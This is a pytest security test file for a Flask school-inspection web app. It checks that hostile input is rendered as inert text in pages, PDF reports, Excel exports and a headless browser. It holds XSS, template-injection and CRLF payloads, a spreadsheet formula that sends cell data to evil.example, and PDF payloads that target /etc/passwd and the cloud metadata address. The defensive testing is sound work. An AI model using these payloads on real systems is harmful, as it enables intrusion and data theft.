"""Injection (T35, T36, T41, T49): hostile text in every field people type — the school's answers
and text inputs, evidence file names, inspectors' reasons and comments, return notes, school
and district names from the Excel import, user display names, the rubric's titles and labels
(a rubric uploaded by the admin) — is shown as text on every page, to every role that sees it,
never executed: checked in the HTML (no element or attribute of the payload's making), in
headless chromium (no dialog, no CSP violation), in the PDF reports (text, no attachment, no
file read) and in every Excel export (no formula cell)."""

from __future__ import annotations

import contextlib
import io
import re
import subprocess
import uuid
import zipfile
import zlib
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from flask import Flask
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader

from tests import pdfs
from tests.security.conftest import PASSWORD, SAMPLE_RUBRIC, World, login, tally, version_of

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "{{7*7}}{% raw %}${7*7}",
    "javascript:alert(1)",
    "</textarea><script>alert(1)</script>",
    "\u202eexe.pdf",
    "line\r\nX-Injected: 1",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+1",
    "@SUM(1,2)",
    "-2+3",
]
CANARY_NAME = "canary.txt"
FILE_XSS = "<img src=x onerror=alert(1)><script>alert(1)</script>"  # a browser sends no quote in a file name
# School names (≤ 200 characters, no line breaks: the import refuses those, with the row number)
SCHOOL_A_NAME = "东区第一小学" + XSS[0] + XSS[1] + "{{7*7}}<link rel=attachment href=file:///etc/passwd>"
SCHOOL_B_NAME = XSS[8] + "西区第二中学" + XSS[2] + "\u202e"


def corpus_text(n: int = 0) -> str:
    """One string holding every payload, rotated so that each field starts with another."""
    items = XSS[n % len(XSS) :] + XSS[: n % len(XSS)]
    return " ".join(items)


def pdf_payloads(canary: Path) -> str:
    url = canary.as_uri()
    return (
        f'<link rel=attachment href="{url}"><link rel=attachment href=file:///etc/passwd>'
        f'<img src="{url}"><style>@import url("{url}")</style><img src="http://169.254.169.254/x">'
    )


# --------------------------------------------------------------------------------------------
# The hostile world


def hostile_rubric() -> str:
    data = yaml.safe_load(SAMPLE_RUBRIC.read_text(encoding="utf-8"))
    data["id"] = "hostile-2024"
    data["title"] = "细则" + corpus_text(0)
    for d, dimension in enumerate(data["dimensions"]):
        dimension["title"] = f"维度{d}" + XSS[d % len(XSS)]
        for i, indicator in enumerate(dimension["indicators"]):
            indicator["title"] = f"指标{i}" + XSS[(d + i + 1) % len(XSS)]
            for item in indicator["items"]:
                item["title"] = item["title"] + XSS[(d + i + 2) % len(XSS)]
                for inp in item["inputs"]:
                    inp["label"] = inp["label"] + XSS[(d + i + 3) % len(XSS)]
    first = data["dimensions"][0]["indicators"][0]["items"][0]
    first["inputs"].append({"key": "pe_note", "label": "体育活动说明<b>粗体</b>", "type": "text", "required": True})
    first["evidence"] = [XSS[1], XSS[0]]
    first["method"] = XSS[2]
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


def school_list_with(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(["学校代码", "学校名称", "学段", "办学性质", "是否寄宿", "是否有食堂", "所属区县"])
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def build_hostile_world(app: Flask, world: World, canary: Path) -> World:
    """Everything typed is hostile; returns the ids of the new cycle's assessments."""
    from tests.webapp.helpers import fill_completely
    from webapp.bureau import operations as bureau
    from webapp.extensions import db
    from webapp.models import Assessment, User
    from webapp.school import operations as school_ops

    ids = dict(world.ids)
    admin = app.test_client()
    login(admin, "admin")
    # the admin uploads the rubric (checked, then published) and opens a cycle with it
    text = hostile_rubric()
    assert admin.post("/admin/rubrics/check", data={"text": text}).status_code == 200
    assert admin.post("/admin/rubrics/publish", data={"yaml_text": text}).status_code == 303
    # school and district names from the Excel import
    sheet = school_list_with(
        [
            ["A001", SCHOOL_A_NAME, "小学", "公办", "否", "是", "东区"],
            ["B001", SCHOOL_B_NAME, "初中", "公办", "否", "是", "西区"],
        ]
    )
    response = admin.post(
        "/admin/schools/import",
        data={"file": (io.BytesIO(sheet), "名单<img src=x onerror=alert(1)>.xlsx")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 303, re.findall(r"class=\"errors\">.{0,400}", response.data.decode(), re.S)
    # a bad import echoes the hostile cell in its report
    bad = school_list_with([[XSS[0], XSS[1], XSS[2], "公办", "否", "是", "东区"]])
    assert admin.post("/admin/schools/import", data={"file": (io.BytesIO(bad), "坏.xlsx")}).status_code == 422
    # an inspector whose display name is hostile, through the accounts form
    created = admin.post(
        "/admin/users/", data={"username": "inspector_x", "role": "inspector", "display_name": XSS[1] + XSS[0]}
    )
    assert created.status_code == 200
    with app.test_request_context():
        from webapp.accounts.access import hash_password
        from webapp.models import Cycle, RubricRecord

        user = db.session.execute(db.select(User).where(User.username == "inspector_x")).scalar_one()
        user.password_hash, user.must_change_password = hash_password(PASSWORD), False
        db.session.commit()
        ids["inspector_x"] = user.id
        record = db.session.execute(
            db.select(RubricRecord).where(RubricRecord.rubric_id == "hostile-2024")
        ).scalar_one()
        actor = db.session.get(User, ids["admin"])
        bureau.close_cycle(ids["cycle"], actor)
        cycle = bureau.open_new_cycle(
            "年度" + XSS[0], 2025, record.id, None, [ids["school_a_id"], ids["school_b_id"]], actor
        )
        ids["cycle"] = cycle.id
        for key, school in (("assessment_a", "school_a_id"), ("assessment_b", "school_b_id")):
            ids[key] = db.session.execute(
                db.select(Assessment.id).where(Assessment.cycle_id == cycle.id, Assessment.school_id == ids[school])
            ).scalar_one()
        # B: filled, its text answer hostile, evidence with a hostile name, submitted
        school_b = db.session.get(User, ids["school_b"])
        fill_completely(ids["assessment_b"], school_b, pe_note=corpus_text(3) + pdf_payloads(canary))
        b = db.session.get(Assessment, ids["assessment_b"])
        school_ops.save_section(
            b.id,
            school_b,
            b.version,
            [],
            [school_ops.Upload("A1.1", XSS[1] + XSS[0] + ".pdf", io.BytesIO(pdfs.plain()))],
        )
        b = db.session.get(Assessment, ids["assessment_b"])
        school_ops.submit_assessment(b.id, school_b, b.version)
        assert Cycle is not None
    # A: typed through the form, hostile text and a hostile file name
    school_a = app.test_client()
    login(school_a, "school_a")
    url = f"/school/assessments/{ids['assessment_a']}/A"
    page = school_a.get(url).data.decode()
    response = school_a.post(
        url,
        data={
            "version": version_of(page),
            "fields": ["pe_note", "pe_minutes_daily"],
            "pe_note": corpus_text(4) + pdf_payloads(canary),
            "pe_minutes_daily": XSS[1],
            "evidence-A1.1": [
                (io.BytesIO(pdfs.plain()), FILE_XSS + ".pdf"),
                (io.BytesIO(b"<html>"), XSS[0] + ".pdf"),  # refused: the flash message names it
            ],
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 303
    # the inspector assigned to B reviews with hostile reasons and comments, and returns it
    with app.test_request_context():
        from webapp.models import InspectorAssignment

        db.session.add(InspectorAssignment(user_id=ids["inspector_x"], school_id=ids["school_b_id"]))
        db.session.commit()
    inspector = app.test_client()
    login(inspector, "inspector_x")
    b = ids["assessment_b"]
    page = inspector.get(f"/inspector/assessments/{b}/B").data.decode()
    response = inspector.post(
        f"/inspector/assessments/{b}/items/B1.1",
        data={
            "version": version_of(page),
            "action": "save",
            "override_status": "not_met",
            "reason": corpus_text(5) + pdf_payloads(canary),
            "comment": corpus_text(6),
            "c-eligible_teachers": XSS[1],
        },
    )
    assert response.status_code in (303, 422), response.status_code
    page = inspector.get(f"/inspector/assessments/{b}/B").data.decode()
    response = inspector.post(
        f"/inspector/assessments/{b}/items/B1.1",
        data={
            "version": version_of(page),
            "action": "save",
            "override_status": "not_met",
            "reason": corpus_text(5) + pdf_payloads(canary),
            "comment": corpus_text(6),
        },
    )
    assert response.status_code == 303, re.findall(r'class="flash[^>]*>([^<]*)', response.data.decode())
    page = inspector.get(f"/inspector/assessments/{b}/overview").data.decode()
    response = inspector.post(
        f"/inspector/assessments/{b}/return", data={"version": version_of(page), "note": corpus_text(7)}
    )
    assert response.status_code == 303
    return World(ids)


@pytest.fixture
def canary(tmp_path: Path) -> tuple[Path, str]:
    secret = f"CANARY-{uuid.uuid4().hex}"
    path = tmp_path / CANARY_NAME
    path.write_text(secret, encoding="utf-8")
    return path, secret


@pytest.fixture
def hostile(app: Flask, world: World, canary: tuple[Path, str]) -> World:
    return build_hostile_world(app, world, canary[0])


# --------------------------------------------------------------------------------------------
# HTML: what each role sees


class MarkupOf(HTMLParser):
    """Collects whatever a payload would have to create to run: scripts, handlers, odd URLs."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script" and not (values.get("src") or "").startswith("/static/"):
            self.problems.append(f"<script> {values}")
        if tag in ("iframe", "object", "embed", "base", "frame", "meta") and tag != "meta":
            self.problems.append(f"<{tag}>")
        if tag == "img" and values.get("src") == "x":
            self.problems.append("<img src=x>")
        if tag == "link" and (values.get("rel") or "") == "attachment":
            self.problems.append("<link rel=attachment>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name in ("href", "src", "action", "formaction") and (value or "").strip().lower().startswith(
                ("javascript:", "data:text/html")
            ):
                self.problems.append(f"{tag} {name}={value}")


def injected_markup(html: str) -> list[str]:
    parser = MarkupOf()
    parser.feed(html)
    problems = parser.problems
    for raw in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<b>粗体</b>"):
        if raw in html:
            problems.append("raw " + raw)
    return problems


def pages_for(world: World) -> dict[str, list[str]]:
    a, b = world["assessment_a"], world["assessment_b"]
    dims = ["A", "B", "C", "D"]
    admin_pages = [
        "/admin/",
        "/admin/results",
        "/admin/results?basis=self",
        "/admin/schools/",
        f"/admin/schools/{world['school_a_id']}",
        f"/admin/schools/{world['school_b_id']}",
        "/admin/cycles/",
        f"/admin/cycles/{world['cycle']}",
        "/admin/users/",
        "/admin/assignments/",
        f"/admin/assignments/?inspector={world['inspector_x']}",
        "/admin/rubrics/",
        "/admin/rubrics/2",
        "/admin/audit/",
        "/admin/audit/?per_page=200",
        "/jobs/",
    ]
    review = [f"/inspector/assessments/{x}/{p}" for x in (a, b) for p in ["overview", *dims]]
    return {
        "school_a": ["/school/", *[f"/school/assessments/{a}/{d}" for d in dims], f"/school/assessments/{a}/submit"],
        "school_b": ["/school/", *[f"/school/assessments/{b}/{d}" for d in dims], f"/school/assessments/{b}/submit"],
        "inspector_x": ["/inspector/", "/inspector/?show=all", *[u for u in review if f"/{b}/" in u]],
        "inspector_b": ["/inspector/?show=all", *[u for u in review if f"/{b}/" in u]],
        "inspector_a": ["/inspector/?show=all", *[u for u in review if f"/{a}/" in u]],
        "district_west": ["/admin/", "/admin/results", "/admin/schools/", *[u for u in review if f"/{b}/" in u]],
        "district_east": ["/admin/", "/admin/results", "/admin/schools/", *[u for u in review if f"/{a}/" in u]],
        "admin": admin_pages + review,
    }


def test_hostile_text_is_shown_as_text_on_every_page_for_every_role(app: Flask, hostile: World) -> None:
    seen_literally = 0
    for username, urls in pages_for(hostile).items():
        client = app.test_client()
        login(client, username)
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, (username, url, response.status_code)
            html = response.data.decode()
            problems = injected_markup(html)
            tally("xss_pages_rendered")
            tally("xss_executable_markup", len(problems))
            assert not problems, (username, url, problems[:5])
            seen_literally += "&lt;script&gt;alert(1)&lt;/script&gt;" in html or "{{7*7}}" in html
    assert seen_literally > 40  # the payloads are there, as text


def test_flash_messages_and_import_reports_escape_what_they_echo(app: Flask, hostile: World) -> None:
    admin = app.test_client()
    login(admin, "admin")
    bad = school_list_with([[XSS[1], XSS[0], XSS[2], XSS[0], "否", "是", "东区"]])
    report = admin.post("/admin/schools/import", data={"file": (io.BytesIO(bad), FILE_XSS + ".xlsx")})
    assert report.status_code == 422 and not injected_markup(report.data.decode())
    assert "&lt;script&gt;" in report.data.decode()
    school = app.test_client()
    login(school, "school_a")
    url = f"/school/assessments/{hostile['assessment_a']}/A"
    page = school.get(url).data.decode()
    school.post(
        url,
        data={"version": version_of(page), "evidence-A1.1": (io.BytesIO(b"<html>"), FILE_XSS + ".pdf")},
        content_type="multipart/form-data",
    )
    html = school.get(url).data.decode()
    assert "未保存" in html and not injected_markup(html)
    checked = admin.post("/admin/rubrics/check", data={"text": hostile_rubric().replace("version: 1", "version: 7")})
    assert checked.status_code == 200 and not injected_markup(checked.data.decode())


def test_template_syntax_in_text_is_shown_literally(app: Flask, hostile: World) -> None:
    client = app.test_client()
    login(client, "school_a")
    html = client.get(f"/school/assessments/{hostile['assessment_a']}/A").data.decode()
    assert "{{7*7}}" in html and "${7*7}" in html


# --------------------------------------------------------------------------------------------
# PDFs: the school's report and the region summary, from the web


def inflated(pdf: bytes) -> bytes:
    chunks = [pdf]
    for match in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.S):
        with contextlib.suppress(zlib.error):
            chunks.append(zlib.decompress(match.group(1)))
    return b"\n".join(chunks)


def test_pdf_reports_escape_the_payloads_and_read_no_file(app: Flask, hostile: World, canary: tuple[Path, str]) -> None:
    _, secret = canary
    downloads = {
        ("school_a", f"/reports/assessments/{hostile['assessment_a']}.pdf"),
        ("school_b", f"/reports/assessments/{hostile['assessment_b']}.pdf"),
        ("inspector_x", f"/reports/assessments/{hostile['assessment_b']}.pdf"),
        ("admin", "/reports/region.pdf"),
        ("district_east", "/reports/region.pdf"),
    }
    for username, url in sorted(downloads):
        client = app.test_client()
        login(client, username)
        response = client.get(url)
        assert response.status_code == 200, (username, url)
        pdf = response.data
        everything = inflated(pdf)
        tally("pdf_rendered")
        tally("pdf_payloads", 5)
        leaks = int(bool(PdfReader(io.BytesIO(pdf)).attachments)) + int(secret.encode() in everything)
        leaks += int(b"root:x:0:0" in everything)
        tally("pdf_fetches_escaped", leaks)
        assert leaks == 0, (username, url)
        text = subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True).stdout.decode()
        assert "alert(1)" in text.replace("\n", "")  # the payloads are there, as text


def test_batch_reports_escape_the_payloads_too(app: Flask, hostile: World, canary: tuple[Path, str]) -> None:
    client = app.test_client()
    login(client, "admin")
    assert client.post("/jobs/report-batch").status_code == 303
    from webapp.extensions import db
    from webapp.models import Job

    with app.app_context():
        job = db.session.execute(db.select(Job).order_by(Job.id.desc())).scalars().first()
    response = client.get(f"/jobs/{job.id}/download")
    data = response.data
    response.close()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            assert "/" not in name.strip("/") and ".." not in name and "\r" not in name and "\n" not in name
            pdf = archive.read(name)
            assert not PdfReader(io.BytesIO(pdf)).attachments and canary[1].encode() not in inflated(pdf)


# --------------------------------------------------------------------------------------------
# Excel: every export route, every cell


def xlsx_routes(app: Flask) -> set[str]:
    return {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith(".xlsx")}


EXPORTS = {
    "bureau.export_scores": "/admin/results/scores.xlsx",
    "bureau.export_schools": "/admin/schools/export.xlsx",
    "audit.export": "/admin/audit/export.xlsx",
    "documents.region_workbook": "/reports/region.xlsx",
    "rectification.ledger_export": "/admin/rectification/ledger.xlsx",
    "bureau.account_template": "/admin/users/import/template.xlsx",  # headers only, but checked all the same
}
ADMIN_ONLY_EXPORTS = {"audit.export", "bureau.account_template"}


def formula_cells(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        if str(sheet.title).startswith(("=", "+", "-", "@")):
            found.append(f"sheet {sheet.title}")
        for row in sheet.iter_rows():
            found += [f"{sheet.title}!{c.coordinate}={c.value!r}" for c in row if c.data_type == "f"]
    return found


def test_every_excel_export_route_is_covered(app: Flask) -> None:
    assert xlsx_routes(app) == set(EXPORTS)


@pytest.mark.parametrize("username", ["admin", "district_east", "district_west"])
def test_no_excel_export_holds_a_formula(app: Flask, hostile: World, username: str) -> None:
    client = app.test_client()
    login(client, username)
    for endpoint, url in EXPORTS.items():
        response = client.get(url)
        if endpoint in ADMIN_ONLY_EXPORTS and username != "admin":
            assert response.status_code == 403
            continue
        assert response.status_code == 200, (username, url)
        formulas = formula_cells(response.data)
        tally("xlsx_exports_checked")
        tally("xlsx_formula_cells", len(formulas))
        assert not formulas, (username, url, formulas[:5])
    if username == "admin":
        text = " ".join(
            str(c.value)
            for sheet in load_workbook(io.BytesIO(client.get(EXPORTS["bureau.export_scores"]).data)).worksheets
            for row in sheet.iter_rows()
            for c in row
            if c.value is not None
        )
        assert "'=HYPERLINK" in text  # the payload is there, as text


# --------------------------------------------------------------------------------------------
# In a real browser: no dialog, no CSP violation, on any page of any role

WATCH = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));
"""


@pytest.mark.browser
@pytest.mark.slow
def test_no_payload_runs_and_no_page_breaks_its_csp_in_chromium(
    app: Flask, hostile: World, live_server: str, browser: Any
) -> None:
    dialogs: list[str] = []
    violations: list[str] = []
    pages = pages_for(hostile)
    for username in ("school_a", "school_b", "inspector_x", "district_west", "admin"):
        context = browser.new_context()
        context.add_init_script(WATCH)
        page = context.new_page()
        page.on("dialog", lambda d: (dialogs.append(f"{d.type}: {d.message}"), d.dismiss()))
        page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
        page.goto(f"{live_server}/login")
        page.fill("#username", username)
        page.fill("#password", PASSWORD)
        page.click("button[type=submit]")
        page.wait_for_load_state()
        for url in ["/login", *pages[username]]:
            page.goto(live_server + url)
            page.wait_for_load_state("load")
            violations.extend(f"{url}: {v}" for v in page.evaluate("window.__violations"))
            tally("browser_pages")
        context.close()
    tally("browser_dialogs", len(dialogs))
    tally("csp_violations", len(violations))
    assert dialogs == [] and violations == []
